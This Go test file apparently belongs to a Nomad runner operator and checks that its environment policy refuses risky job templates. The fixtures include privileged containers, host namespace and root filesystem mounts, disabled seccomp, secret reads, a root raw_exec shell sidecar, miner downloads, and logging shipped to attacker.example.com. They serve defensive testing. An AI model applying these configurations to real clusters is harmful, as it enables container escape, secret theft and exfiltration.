package nomadbridge_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"

	nomad "github.com/hashicorp/nomad/api"
	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	v1alpha1 "github.com/nomad-runner-operator/nomad-runner-operator/api/v1alpha1"
	"github.com/nomad-runner-operator/nomad-runner-operator/controllers"
	"github.com/nomad-runner-operator/nomad-runner-operator/nomadbridge"
	"github.com/nomad-runner-operator/nomad-runner-operator/test/nomaddev"
)

// defaultPolicy is the built-in policy, filled in by the operator's own code.
func defaultPolicy() nomadbridge.JobPolicy {
	return controllers.JobPolicy(controllers.BuiltinPolicyName, v1alpha1.EnvironmentPolicySpec{}, "default")
}

var (
	dockerJob  = nomaddev.DockerTemplateHCL
	sidecarJob = func(sidecars string) string { return nomaddev.SidecarTemplateHCL("", "", "", sidecars) }
)

// taskJob is a one-group job with the runner task body given whole.
func taskJob(groupBody, taskBody string) string {
	return fmt.Sprintf(`job "template" {
  group "runner" {
    %s
    task "runner" {
      %s
    }
  }
}`, groupBody, taskBody)
}

type policyCase struct {
	hcl    string
	spec   func(*nomadbridge.EnvironmentSpec)
	policy func(*nomadbridge.JobPolicy)
	// refused lists a substring of each violation wanted, in any order;
	// empty means the job passes. invalid means rendering refuses it before
	// any policy (ErrInvalidJob).
	refused []string
	invalid string
}

// checkTemplate renders a parsed template as the operator does and checks it.
func checkTemplate(template *nomad.Job, c policyCase) error {
	spec := nomadbridge.EnvironmentSpec{Image: "python:3.13", CPU: 500, MemoryMB: 512, OperatorNamespace: "default", OperatorRegion: "global", PidsLimit: 1024}
	if c.spec != nil {
		c.spec(&spec)
	}
	p := defaultPolicy()
	if c.policy != nil {
		c.policy(&p)
	}
	spec.PidsLimit = p.MaxPids
	job, err := nomadbridge.RenderEnvironmentJob(template, spec)
	if err != nil {
		return err
	}
	return nomadbridge.CheckJobPolicies(job, spec, []nomadbridge.JobPolicy{p})
}

func expectOutcome(err error, c policyCase) {
	switch {
	case c.invalid != "":
		Expect(err).To(MatchError(nomadbridge.ErrInvalidJob))
		Expect(err.Error()).To(ContainSubstring(c.invalid))
	case len(c.refused) == 0:
		Expect(err).NotTo(HaveOccurred())
	default:
		var perr *nomadbridge.PolicyError
		Expect(errors.As(err, &perr)).To(BeTrue(), "want a policy violation, got %v", err)
		Expect(err).To(MatchError(nomadbridge.ErrPolicyViolation))
		got := make([]string, 0, len(perr.Violations))
		for _, v := range perr.Violations {
			got = append(got, v.String())
		}
		Expect(got).To(HaveLen(len(c.refused)), "violations: %s", strings.Join(got, "; "))
		for _, want := range c.refused {
			Expect(got).To(ContainElement(ContainSubstring(want)), "violations: %s", strings.Join(got, "; "))
		}
	}
}

func allow(perms ...string) func(*nomadbridge.JobPolicy) {
	return func(p *nomadbridge.JobPolicy) { p.Allow = append(p.Allow, perms...) }
}

func drivers(d ...string) func(*nomadbridge.JobPolicy) {
	return func(p *nomadbridge.JobPolicy) { p.Drivers = d }
}

func withNetwork(s *nomadbridge.EnvironmentSpec) { s.NetworkAccess = true }

// Every template is parsed by the real agent (HCL), and again from the JSON
// that `nomad job run -output` would print for it: both must come out the same.
var _ = Describe("Environment policy on rendered runner jobs", func() {
	DescribeTable("templates", func(ctx context.Context, c policyCase) {
		parsed, err := bridge.ParseHCL(ctx, c.hcl)
		Expect(err).NotTo(HaveOccurred())
		expectOutcome(checkTemplate(parsed, c), c)

		wrapped, err := json.Marshal(map[string]any{"Job": parsed})
		Expect(err).NotTo(HaveOccurred())
		fromJSON, err := nomadbridge.DecodeJSONTemplate(string(wrapped))
		Expect(err).NotTo(HaveOccurred())
		expectOutcome(checkTemplate(fromJSON, c), c)
	},
		// Allowed.
		Entry("the default docker template", policyCase{hcl: dockerJob("", "", "")}),
		Entry("docker with network access and ports", policyCase{hcl: dockerJob("", "", ""), spec: func(s *nomadbridge.EnvironmentSpec) {
			s.NetworkAccess, s.ExposedPorts = true, []int{8080}
		}}),
		Entry("a capability the policy lists", policyCase{hcl: dockerJob("", "", `cap_add = ["net_bind_service"]`),
			policy: func(p *nomadbridge.JobPolicy) { p.Capabilities = []string{"NET_BIND_SERVICE"} }}),
		Entry("a privileged task where the policy allows it", policyCase{hcl: dockerJob("", "", "privileged = true"), policy: allow(nomadbridge.PermitPrivileged)}),
		Entry("exec isolated by its group's network mode none", policyCase{
			hcl:    taskJob(`network { mode = "none" }`, `driver = "exec"`+"\n"+`config { command = "/bin/sleep" }`),
			policy: drivers("exec"),
		}),
		Entry("raw_exec without network where the policy opts into it", policyCase{
			hcl: taskJob("", `driver = "raw_exec"`+"\n"+`config { command = "/bin/sleep" }`),
			policy: func(p *nomadbridge.JobPolicy) {
				p.Drivers, p.UnisolatedDrivers = []string{"raw_exec"}, []string{"raw_exec"}
			},
		}),
		Entry("a Poseidon batch template in an allowed namespace", policyCase{
			hcl: `job "template-0" {
  datacenters = ["dc1"]
  type        = "batch"
  namespace   = "poseidon"
  group "default-group" {
    count = 1
    restart {
      attempts = 0
      mode     = "fail"
    }
    reschedule {
      attempts  = 0
      unlimited = false
    }
    task "default-task" {
      driver       = "docker"
      kill_timeout = "0s"
      kill_signal  = "SIGKILL"
      config {
        image        = "openhpi/co_execenv_python:3.8"
        command      = "sleep"
        args         = ["infinity"]
        network_mode = "none"
      }
      logs {
        max_files     = 1
        max_file_size = 1
      }
      resources {
        cpu    = 40
        memory = 30
      }
    }
  }
  group "config" {
    count = 0
    task "config" {
      driver = "exec"
      config {
        command = "true"
      }
    }
    meta {
      used               = "false"
      prewarmingPoolSize = "0"
    }
  }
}`,
			policy: func(p *nomadbridge.JobPolicy) {
				p.Namespaces, p.Datacenters = []string{"poseidon"}, []string{"dc1"}
			},
		}),

		// Escapes to the node.
		Entry("a privileged container", policyCase{hcl: dockerJob("", "", "privileged = true"), refused: []string{`task "runner" config.privileged`}}),
		Entry("the node's PID namespace", policyCase{hcl: dockerJob("", "", `pid_mode = "host"`), refused: []string{"config.pid_mode"}}),
		Entry("the node's IPC and UTS namespaces", policyCase{hcl: dockerJob("", "", `ipc_mode = "host"`+"\n"+`uts_mode = "host"`), refused: []string{"config.ipc_mode", "config.uts_mode"}}),
		Entry("the node's user namespace", policyCase{hcl: dockerJob("", "", `userns_mode = "host"`), refused: []string{"config.userns_mode"}}),
		Entry("the node's filesystem as a docker volume", policyCase{hcl: dockerJob("", "", `volumes = ["/:/host"]`), refused: []string{"config.volumes"}}),
		Entry("a docker bind mount", policyCase{hcl: dockerJob("", "", `mount {
  type   = "bind"
  source = "/etc"
  target = "/host-etc"
}`), refused: []string{"config.mount"}}),
		Entry("a host device", policyCase{hcl: dockerJob("", "", `devices = [{ host_path = "/dev/kvm" }]`), refused: []string{"config.devices"}}),
		Entry("a GPU request", policyCase{hcl: taskJob("", `driver = "docker"
config { image = "x" }
resources {
  device "nvidia/gpu" {
    count = 1
  }
}`), refused: []string{"resources.device"}}),
		Entry("an added capability", policyCase{hcl: dockerJob("", "", `cap_add = ["SYS_ADMIN"]`), refused: []string{"capability SYS_ADMIN"}}),
		Entry("another container runtime", policyCase{hcl: dockerJob("", "", `runtime = "runc"`), refused: []string{"config.runtime"}}),
		Entry("a docker logging driver shipping output off the node", policyCase{hcl: dockerJob("", "", `logging {
  type = "syslog"
  config {
    syslog-address = "udp://attacker.example.com:514"
  }
}`), refused: []string{"config.logging"}}),
		Entry("a task the OOM killer spares over its neighbours", policyCase{hcl: dockerJob("", "", "oom_score_adj = -1000"), refused: []string{"config.oom_score_adj"}}),
		Entry("an image outside the policy's registries", policyCase{hcl: dockerJob("", "", ""),
			policy:  func(p *nomadbridge.JobPolicy) { p.Images = []string{"registry.example.com/courses/"} },
			refused: []string{`config.image: image "python:3.13" is not allowed (policy images)`}}),
		Entry("a sidecar image outside the policy's registries", policyCase{hcl: sidecarJob(`    task "side" {
      driver = "docker"
      config { image = "evil.example.com/miner" }
      resources {
        cpu    = 10
        memory = 10
      }
    }`), spec: func(s *nomadbridge.EnvironmentSpec) { s.Image = "registry.example.com/courses/python:3.13" },
			policy:  func(p *nomadbridge.JobPolicy) { p.Images = []string{"registry.example.com/courses/"} },
			refused: []string{`task "side" config.image: image "evil.example.com/miner"`}}),
		Entry("seccomp off", policyCase{hcl: dockerJob("", "", `security_opt = ["seccomp=unconfined"]`), refused: []string{"config.security_opt"}}),
		Entry("a group host volume", policyCase{hcl: taskJob(`volume "data" {
  type   = "host"
  source = "data"
}`, `driver = "docker"
config { image = "x" }
volume_mount {
  volume      = "data"
  destination = "/data"
}`), refused: []string{`volume "data"`, "volume_mount"}}),
		Entry("a CSI volume", policyCase{hcl: taskJob(`volume "data" {
  type            = "csi"
  source          = "data"
  attachment_mode = "file-system"
  access_mode     = "single-node-writer"
}`, `driver = "docker"
config { image = "x" }`), refused: []string{"a CSI volume"}}),
		Entry("a raw_exec sidecar as root on the node", policyCase{
			hcl: sidecarJob(`    task "miner" {
      driver = "raw_exec"
      user   = "root"
      config { command = "/bin/sh" }
      resources {
        cpu    = 100
        memory = 100
      }
    }`),
			refused: []string{`task "miner" driver: driver "raw_exec" is not allowed`, `task "miner" driver: the operator cannot take the network`},
		}),
		Entry("sidecars escaping the environment's limits", policyCase{
			hcl: sidecarJob(`    task "hog" {
      driver = "docker"
      config { image = "x" }
      resources {
        cpu    = 64000
        memory = 256000
      }
    }`),
			invalid: "the sidecars of group",
		}),
		Entry("whole cores", policyCase{hcl: sidecarJob(`    task "side" {
      driver = "docker"
      config { image = "x" }
      resources {
        cores  = 2
        memory = 10
      }
    }`), refused: []string{`task "side" resources.cores`}}),

		// Secrets and identities of the cluster.
		Entry("a template block", policyCase{hcl: taskJob("", `driver = "docker"
config { image = "x" }
template {
  data        = "{{ with nomadVar \"nomad/jobs/payments\" }}{{ .password }}{{ end }}"
  destination = "local/secret"
}`), refused: []string{"a template block"}}),
		Entry("a vault block", policyCase{hcl: taskJob("", `driver = "docker"
config { image = "x" }
vault {}`), refused: []string{"a vault block"}}),
		Entry("a workload identity", policyCase{hcl: taskJob("", `driver = "docker"
config { image = "x" }
identity {
  env = true
}`), refused: []string{"a workload identity"}}),
		Entry("an artifact download", policyCase{hcl: taskJob("", `driver = "docker"
config { image = "x" }
artifact {
  source = "https://example.com/miner"
}`), refused: []string{"an artifact block"}}),
		Entry("a consul block", policyCase{hcl: taskJob(`consul {}`, `driver = "docker"
config { image = "x" }`), refused: []string{"a consul block"}}),
		Entry("a service registration", policyCase{hcl: taskJob("", `driver = "docker"
config { image = "x" }
service {
  name     = "runner"
  provider = "nomad"
}`), refused: []string{"a service registration"}}),

		// Placement and scheduling.
		Entry("another Nomad namespace in the template", policyCase{hcl: dockerJob(`namespace = "prod"`, "", ""), refused: []string{`Nomad namespace "prod"`}}),
		Entry("another Nomad namespace in the spec", policyCase{hcl: dockerJob("", "", ""),
			spec: func(s *nomadbridge.EnvironmentSpec) { s.Namespace = "prod" }, refused: []string{`Nomad namespace "prod"`}}),
		Entry("a node pool not allowed", policyCase{hcl: dockerJob(`node_pool = "gpu"`, "", ""), refused: []string{`node pool "gpu"`}}),
		Entry("a datacenter not allowed", policyCase{hcl: dockerJob(`datacenters = ["dc2"]`, "", ""),
			policy: func(p *nomadbridge.JobPolicy) { p.Datacenters = []string{"dc1"} }, refused: []string{`datacenter "dc2"`}}),
		Entry("another region", policyCase{hcl: dockerJob(`region = "eu"`, "", ""), invalid: `region "eu": this operator serves Nomad region "global" only`}),
		Entry("priority 100", policyCase{hcl: dockerJob("priority = 100", "", ""), refused: []string{"job priority: 100 is above 50"}}),
		Entry("a cpuLimit above the policy's", policyCase{hcl: dockerJob("", "", ""),
			spec: func(s *nomadbridge.EnvironmentSpec) { s.CPU = 64000 }, refused: []string{"spec.cpuLimit"}}),
		Entry("a memoryLimit above the policy's", policyCase{hcl: dockerJob("", "", ""),
			spec: func(s *nomadbridge.EnvironmentSpec) { s.MemoryMB = 256000 }, refused: []string{"spec.memoryLimit"}}),
		Entry("a huge ephemeral disk", policyCase{hcl: dockerJob("", `ephemeral_disk { size = 100000 }`, ""), refused: []string{"ephemeral_disk.size"}}),
		Entry("no pids limit", policyCase{hcl: dockerJob("", "", "pids_limit = 0"), refused: []string{"config.pids_limit"}}),
		Entry("a pids limit above the policy's", policyCase{hcl: dockerJob("", "", "pids_limit = 100000"), refused: []string{"config.pids_limit"}}),

		// Network.
		Entry("the host network without networkAccess", policyCase{hcl: dockerJob("", "", `network_mode = "host"`),
			refused: []string{`config.network_mode: "host" gives a network to an environment without networkAccess`, "config.network_mode"}}),
		Entry("the host network with networkAccess", policyCase{hcl: dockerJob("", "", `network_mode = "host"`), spec: withNetwork,
			refused: []string{`network_mode "host"`}}),
		Entry("another container's network", policyCase{hcl: dockerJob("", "", `network_mode = "container:payments"`), spec: withNetwork,
			refused: []string{`network_mode "container:payments"`}}),
		Entry("exec without a group network mode none", policyCase{
			hcl:    taskJob("", `driver = "exec"`+"\n"+`config { command = "/bin/sleep" }`),
			policy: drivers("exec"), refused: []string{`cannot take the network away from a "exec" task`},
		}),
		Entry("raw_exec, a driver not allowed", policyCase{
			hcl:     taskJob("", `driver = "raw_exec"`+"\n"+`config { command = "/bin/sleep" }`),
			refused: []string{`driver "raw_exec" is not allowed`, "cannot take the network away"},
		}),
	)

	It("reports the violations of the first refusing policy of several", func() {
		parsed, err := bridge.ParseHCL(context.Background(), dockerJob("priority = 90", "", "privileged = true"))
		Expect(err).NotTo(HaveOccurred())
		spec := nomadbridge.EnvironmentSpec{Image: "x", CPU: 100, MemoryMB: 128, OperatorNamespace: "default", OperatorRegion: "global", PidsLimit: 1024}
		job, err := nomadbridge.RenderEnvironmentJob(parsed, spec)
		Expect(err).NotTo(HaveOccurred())
		lenient := defaultPolicy()
		lenient.Name, lenient.Allow, lenient.MaxPriority = "a-lenient", []string{nomadbridge.PermitPrivileged}, 100
		strict := defaultPolicy()
		strict.Name = "b-strict"
		err = nomadbridge.CheckJobPolicies(job, spec, []nomadbridge.JobPolicy{lenient, strict})
		Expect(err).To(MatchError(ContainSubstring(`environment policy "b-strict" refuses the runner job`)))
		Expect(err).To(MatchError(ContainSubstring(`group "runner" task "runner" config.privileged: a privileged task is not allowed (policy allow: Privileged)`)))
		Expect(err).To(MatchError(ContainSubstring("job priority: 90 is above 50 (policy maxPriority)")))
		Expect(nomadbridge.CheckJobPolicies(job, spec, []nomadbridge.JobPolicy{lenient})).To(Succeed())
	})
})
